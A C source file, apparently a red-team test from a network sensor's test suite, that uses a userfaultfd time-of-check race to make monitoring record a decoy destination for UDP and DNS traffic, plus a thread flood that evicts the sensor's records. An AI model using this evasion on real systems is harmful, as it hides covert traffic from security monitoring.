/* SPDX-License-Identifier: Apache-2.0 */
/*
 * red_udp_race [-t THREADS] sendto|sendmsg|sendmmsg|dns ADDR PORT DECOY PORT2 [NAME]: one UDP
 * datagram to ADDR:PORT (a socket of its own, bound there, receives it) with no connect, whose
 * sockaddr is rewritten to DECOY:PORT2 while the call runs. The kernel copies the address when
 * the call begins,
 * then copies the payload; the payload lies on a page registered with userfaultfd, so that
 * copy stops on a fault, and the thread that serves the fault rewrites the sockaddr first and
 * supplies the page second. The datagram goes to ADDR:PORT; a sensor that reads the address
 * from the caller's memory when the call returns sees DECOY:PORT2. Deterministic, no timing.
 * dns sends, with sendto, a DNS question for NAME (ADDR:PORT a resolver's port 53, DECOY:PORT2
 * not a DNS port: a sensor misled there would not read the question at all).
 * -t THREADS: while the call is blocked, before the rewrite, THREADS other threads (one after
 * another, each a new thread id) send a datagram with an address each (to a receiver of the
 * program's own): a sensor that keeps the kernel's copy in a table of fewer threads loses the
 * blocked thread's note and falls back to the rewritten memory.
 * Prints "sent N, received at ADDR:PORT: yes|no".
 */
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "dns_wire.h"
#include "progs.h"

static struct sockaddr_storage target, decoy;
static char *page;
static long page_size;
static int uffd;
static uint8_t payload[DNS_MAX_MSG] = "vigil";
static size_t payload_len = 5;
static long flood_threads;
static struct sockaddr_storage flood_to;
static socklen_t flood_len;

/* One datagram with an address, from a thread of its own (flood). */
static void *flood_one(void *arg)
{
	int fd = socket(flood_to.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	(void)arg;
	if (fd < 0 || sendto(fd, "f", 1, 0, (struct sockaddr *)&flood_to, flood_len) != 1)
		prog_die("flood sendto: %s", strerror(errno));
	close(fd);
	return NULL;
}

/* flood_threads threads, one after another: each sends once, with a thread id of its own. */
static void flood(void)
{
	for (long i = 0; i < flood_threads; i++) {
		pthread_t t;

		if (pthread_create(&t, NULL, flood_one, NULL) || pthread_join(t, NULL))
			prog_die("flood thread %ld failed", i);
	}
}

/* Serves the one fault: the sockaddr becomes DECOY, then the payload page is filled in. */
static void *serve(void *arg)
{
	struct pollfd p = { .fd = uffd, .events = POLLIN };
	struct uffd_msg msg;
	struct uffdio_copy copy;
	char *src;

	(void)arg;
	if (poll(&p, 1, 5000) != 1 || read(uffd, &msg, sizeof(msg)) != sizeof(msg) ||
	    msg.event != UFFD_EVENT_PAGEFAULT)
		prog_die("no page fault on the payload");
	flood();
	memcpy(&target, &decoy, sizeof(decoy));
	src = mmap(NULL, (size_t)page_size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1,
		   0);
	if (src == MAP_FAILED)
		prog_die("mmap: %s", strerror(errno));
	memcpy(src, payload, payload_len);
	copy = (struct uffdio_copy){ .dst = (unsigned long)page,
				     .src = (unsigned long)src,
				     .len = (unsigned long)page_size };
	if (ioctl(uffd, UFFDIO_COPY, &copy))
		prog_die("UFFDIO_COPY: %s", strerror(errno));
	return NULL;
}

int main(int argc, char **argv)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg;
	struct iovec iov;
	struct msghdr m = { 0 };
	struct mmsghdr mm = { 0 };
	struct timeval tv = { 2, 0 };
	socklen_t len;
	pthread_t th;
	char buf[DNS_MAX_MSG];
	int fd, rx;
	ssize_t n;

	prog_name = "red_udp_race";
	if (argc > 2 && !strcmp(argv[1], "-t")) {
		char *end;

		flood_threads = strtol(argv[2], &end, 10);
		if (*end || flood_threads < 0 || flood_threads > 1000000)
			prog_die("bad -t %s", argv[2]);
		argc -= 2;
		argv += 2;
	}
	if (argc == 7 && !strcmp(argv[1], "dns")) {
		int q = dns_build_query(payload, sizeof(payload), 0x5151, argv[6]);

		if (q < 0)
			prog_die("bad name %s", argv[6]);
		payload_len = (size_t)q;
	} else if (argc != 6 || (strcmp(argv[1], "sendto") && strcmp(argv[1], "sendmsg") &&
				 strcmp(argv[1], "sendmmsg"))) {
		prog_usage("[-t THREADS] sendto|sendmsg|sendmmsg|dns ADDR PORT DECOY PORT2 [NAME]");
	}
	len = prog_sockaddr(argv[2], argv[3], &target);
	if (prog_sockaddr(argv[4], argv[5], &decoy) != len)
		prog_die("ADDR and DECOY must be of one family");
	rx = socket(target.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (rx < 0 || bind(rx, (struct sockaddr *)&target, len) ||
	    setsockopt(rx, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)))
		prog_die("receiver at %s:%s: %s", argv[2], argv[3], strerror(errno));
	if (flood_threads) {
		/* the flood's receiver: the target's address, a port of its own */
		int sink = socket(target.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);

		memcpy(&flood_to, &target, sizeof(target));
		((struct sockaddr_in *)&flood_to)->sin_port = 0; /* sin6_port lies there too */
		flood_len = len;
		if (sink < 0 || bind(sink, (struct sockaddr *)&flood_to, len) ||
		    getsockname(sink, (struct sockaddr *)&flood_to, &flood_len))
			prog_die("flood receiver: %s", strerror(errno));
	}
	page_size = sysconf(_SC_PAGESIZE);
	page = mmap(NULL, (size_t)page_size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
		    -1, 0);
	if (page == MAP_FAILED)
		prog_die("mmap: %s", strerror(errno));
	uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
	if (uffd < 0 || ioctl(uffd, UFFDIO_API, &api))
		prog_die("userfaultfd: %s", strerror(errno));
	reg = (struct uffdio_register){ .range = { (unsigned long)page, (unsigned long)page_size },
					.mode = UFFDIO_REGISTER_MODE_MISSING };
	if (ioctl(uffd, UFFDIO_REGISTER, &reg))
		prog_die("UFFDIO_REGISTER: %s", strerror(errno));
	fd = socket(target.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		prog_die("socket: %s", strerror(errno));
	if (pthread_create(&th, NULL, serve, NULL))
		prog_die("pthread_create failed");
	iov = (struct iovec){ .iov_base = page, .iov_len = payload_len };
	m = (struct msghdr){
		.msg_name = &target, .msg_namelen = len, .msg_iov = &iov, .msg_iovlen = 1
	};
	if (!strcmp(argv[1], "sendto") || !strcmp(argv[1], "dns")) {
		n = sendto(fd, page, payload_len, 0, (struct sockaddr *)&target, len);
	} else if (!strcmp(argv[1], "sendmsg")) {
		n = sendmsg(fd, &m, 0);
	} else {
		mm.msg_hdr = m;
		n = sendmmsg(fd, &mm, 1, 0) == 1 ? (ssize_t)mm.msg_len : -1;
	}
	if (n < 0)
		prog_die("%s: %s", argv[1], strerror(errno));
	pthread_join(th, NULL);
	printf("sent %zd, received at %s:%s: %s\n", n, argv[2], argv[3],
	       recv(rx, buf, sizeof(buf), 0) == (ssize_t)payload_len ? "yes" : "no");
	return 0;
}
